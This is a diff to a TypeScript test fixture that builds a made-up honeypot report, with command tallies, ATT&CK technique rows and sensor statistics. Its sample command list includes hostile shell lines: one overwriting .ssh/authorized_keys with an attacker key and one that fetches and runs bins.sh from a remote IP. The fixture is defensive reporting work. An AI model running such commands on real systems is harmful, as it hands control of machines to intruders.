@@ -1,7 +1,8 @@
 /** A report with something in every part, made up. */
 import type { SafeText } from '../../src/core/text.ts'
-import type { ReportPage, ScoredEntry } from '../../src/report/html/page-model.ts'
+import type { ReportPage } from '../../src/report/html/page-model.ts'
 import type { Novel, NovelKind } from '../../src/report/insights.ts'
+import type { CommandEntry } from '../../src/report/model.ts'
 
 const PERIODS = {
   daily: ['2026-11-21', '2026-11-21', '2026-11-22', '2026-11-20'],
@@ -28,7 +29,9 @@ export function samplePage(
   )
   const byDay = (scale: number) =>
     Object.fromEntries(days.map((day, i) => [day, Math.round(scale * (3 + Math.sin(i * 1.7)))]))
-  const list = (entries: readonly (readonly [string, number, number?, number?])[]): ScoredEntry[] =>
+  const list = (
+    entries: readonly (readonly [string, number, number?, number?])[],
+  ): CommandEntry[] =>
     entries.map(([value, count, threatScore, hazardScore]) => ({
       value: textOf(value),
       count,
@@ -59,7 +62,9 @@ export function samplePage(
   return {
     kind,
     period,
+    redaction: 'internal',
     sensor: null,
+    sensors: null,
     from: `${from}T00:00:00.000000Z`,
     until: `${until}T00:00:00.000000Z`,
     generatedAt: '2026-11-22T00:05:12.000000Z',
@@ -102,7 +107,7 @@ export function samplePage(
         [`cd ~ && rm -rf .ssh && mkdir .ssh && echo "${KEY}">>.ssh/authorized_keys`, 678, 84],
         ['uname -s -v -n -r -m', 480, 12],
         ['cat /proc/cpuinfo | grep name | head -n 1', 361, 14],
-        ["echo -e '\\\\x67\\\\x61\\\\x79\\\\x66'", 267, 22, 8],
+        ["echo -e '\\x67\\x61\\x79'", 267, 22, 8],
         ['cd /tmp || cd /var/run; wget http://203.0.113.70/bins.sh; sh bins.sh', 190, 76],
         ['echo \\u{1B}[2J\\u{1B}]0;owned\\u{07}', 163, 18, 62],
         ['مرحبا بالعالم', 12, 0, 30],
@@ -156,6 +161,10 @@ export function samplePage(
     comparison: {
       from: `${before}T00:00:00.000000Z`,
       until: `${from}T00:00:00.000000Z`,
+      perDay: days.map((_, i) => Math.round(3_000 * (3 + Math.cos(i)))),
+      ...(dayCount === 1
+        ? { perHour: Array.from({ length: 24 }, (_, i) => 4_000 + ((i * 7) % 5) * 700) }
+        : {}),
       figures: {
         events: { now: 119_591, before: 112_056 },
         sessions: { now: 22_637, before: 21_087 },
@@ -245,13 +254,19 @@ export function samplePage(
     ],
     attack: [
       ['T1078', 'Valid accounts', 'Initial Access', 2_214, 40],
-      ['T1059.004', 'Unix shell', 'Execution', 1_904, 60],
+      ['T1059.004', 'Command and Scripting Interpreter: Unix Shell', 'Execution', 1_904, 60],
       ['T1059.008', 'Network device CLI', 'Execution', 211, 30],
       ['T1098.004', 'SSH authorized keys', 'Persistence', 688, 84],
       ['T1053.003', 'Cron', 'Persistence', 42, 55],
       ['T1140', 'Deobfuscate or decode files', 'Defense Evasion', 37, 80],
       ['T1070', 'Indicator removal', 'Defense Evasion', 301, 55],
-      ['T1222.002', 'File permissions', 'Defense Evasion', 690, 52],
+      [
+        'T1222.002',
+        'File and Directory Permissions Modification: Linux and Mac Permissions',
+        'Defense Evasion',
+        690,
+        52,
+      ],
       ['T1082', 'System information discovery', 'Discovery', 2_802, 14],
       ['T1033', 'System owner or user', 'Discovery', 517, 10],
       ['T1105', 'Ingress tool transfer', 'Command and Control', 402, 76],
@@ -267,6 +282,7 @@ export function samplePage(
       Math.round(5_000 + 3_000 * Math.sin(hour / 3.1) + (hour % 5) * 400),
     ),
     sessionsPerDay: byDay(800),
+    bounds: ['Campaigns are those of the last days: there are too many to compare them all.'],
     quality: {
       sensors: ['ams-02', 'fra-01', 'nyc-03', 'sao-01', 'syd-02'].map((sensor, i) => ({
         sensor: textOf(sensor),
@@ -326,6 +342,7 @@ export function emptyPage(kind: keyof typeof PERIODS): ReportPage {
     attack: [],
     perHour: Array.from({ length: 24 }, () => 0),
     sessionsPerDay: {},
+    bounds: [],
     quality: {
       ...page.quality,
       sensors: [],
